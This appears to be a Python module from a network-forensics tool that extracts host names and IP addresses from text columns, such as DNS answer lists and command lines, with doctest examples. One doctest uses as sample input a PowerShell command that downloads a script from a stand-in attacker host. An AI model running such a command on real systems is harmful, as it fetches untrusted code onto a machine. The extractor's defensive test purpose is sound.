"""Addresses and names in columns of text - hosts with ports, JSON lists, command lines -, whole columns at a time.

Free text goes through :mod:`flowsleuth.extract.ioc`. A version number of four parts without a word that says so
(``4.18.2.5``) cannot be told from an address.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, NamedTuple

from flowsleuth.schema.addresses import HomeNetworks, canonical_addresses

if TYPE_CHECKING:
    import pyarrow as pa

_ADDRESS = r"^(?:\d{1,3}(?:\.\d{1,3}){3}|[0-9a-fA-F:.]*:[0-9a-fA-F:.]*(?:%.*)?)$"


class Hosts(NamedTuple):
    """What stands in a column, each once, in no order.

    Attributes
    ----------
    addresses : pyarrow.Array of string
        Canonical text.
    names : pyarrow.Array of string
        Lower case, with a dot within and none at the end.
    """

    addresses: pa.Array
    names: pa.Array


def bare_hosts(texts: pa.Array) -> pa.Array:
    """Hosts without their ports and brackets, as long as the column.

    Examples
    --------
    >>> import pyarrow as pa
    >>> bare_hosts(pa.array(["evil.com:8080", "[2001:db8::1]:443", "2001:db8::1", None])).to_pylist()
    ['evil.com', '2001:db8::1', '2001:db8::1', None]
    """
    import pyarrow.compute as pc

    bare = pc.replace_substring_regex(texts, pattern=r"^([^:]+):\d+$", replacement=r"\1")
    return pc.replace_substring_regex(bare, pattern=r"^\[(.*)\](?::\d+)?$", replacement=r"\1")


def look_like_addresses(bare: pa.Array) -> pa.Array:
    """Which of them have the form of an address.

    Examples
    --------
    >>> import pyarrow as pa
    >>> look_like_addresses(pa.array(["192.0.2.1", "fe80::1%eth0", "bad.cafe", None])).to_pylist()
    [True, True, False, None]
    """
    import pyarrow.compute as pc

    return pc.match_substring_regex(bare, _ADDRESS)


def hosts(texts: pa.Array) -> Hosts:
    """Columns of hosts: names or addresses, with a port or not.

    Examples
    --------
    >>> import pyarrow as pa
    >>> found = hosts(pa.array(["Evil.COM.", "evil.com:80", "192.0.2.1:80", "2001:DB8::0:1", "PC7", "-", None]))
    >>> found.addresses.to_pylist(), found.names.to_pylist()
    (['192.0.2.1', '2001:db8::1'], ['evil.com'])
    """
    import pyarrow.compute as pc

    bare = bare_hosts(texts.drop_null())
    is_address = look_like_addresses(bare)
    addresses = canonical_addresses(bare.filter(is_address), HomeNetworks(())).text
    names = pc.utf8_rtrim(pc.utf8_lower(bare.filter(pc.invert(is_address))), characters=".")
    return Hosts(addresses.drop_null().unique(), names.filter(pc.match_substring(names, ".")).unique())


def list_parts(texts: pa.Array) -> pa.ListArray:
    """JSON lists of text as lists, as long as the column; escapes are left as they are, which addresses have none of.

    Examples
    --------
    >>> import pyarrow as pa
    >>> list_parts(pa.array(['["a.example.com", "192.0.2.1"]'])).to_pylist()
    [['a.example.com', '192.0.2.1']]
    """
    import pyarrow.compute as pc

    return pc.split_pattern_regex(pc.utf8_trim(texts, characters='[]" \n'), r'"\s*,\s*"')


def hosts_in_lists(texts: pa.Array) -> Hosts:
    """Columns of JSON lists of text, as DNS answers are.

    Examples
    --------
    >>> import pyarrow as pa
    >>> found = hosts_in_lists(pa.array(['["a.example.com", "192.0.2.1"]', '["192.0.2.1"]', "[]", None]))
    >>> found.addresses.to_pylist(), found.names.to_pylist()
    (['192.0.2.1'], ['a.example.com'])
    """
    import pyarrow.compute as pc

    parts = pc.list_flatten(list_parts(texts.drop_null())).unique()
    return hosts(parts.filter(pc.invert(pc.match_substring_regex(parts, r"\s"))))


def hosts_in_texts(texts: pa.Array) -> Hosts:
    """Columns of free text, as command lines are: addresses and names, those of URLs too; local names among them.

    Examples
    --------
    >>> import pyarrow as pa
    >>> line = "powershell -c iwr http://evil.example:8080/a.ps1; ping -n 1 192.0.2.7 & fetch https://[2001:db8::1]/x"
    >>> found = hosts_in_texts(pa.array([line, "setup.exe /v1.2.3", None]))
    >>> found.addresses.to_pylist(), found.names.to_pylist()
    (['192.0.2.7', '2001:db8::1'], ['evil.example'])
    """
    import pyarrow.compute as pc

    from flowsleuth.extract.ioc.columns import find
    from flowsleuth.extract.ioc.engine import ScanOptions

    found = find(texts, ["ipv4", "ipv6", "dns"], ScanOptions(local_names=True))
    is_name = pc.equal(found["type"], "dns")
    values = found["observable"]
    addresses, names = values.filter(pc.invert(is_name)), values.filter(is_name)
    return Hosts(addresses.unique(), names.unique())
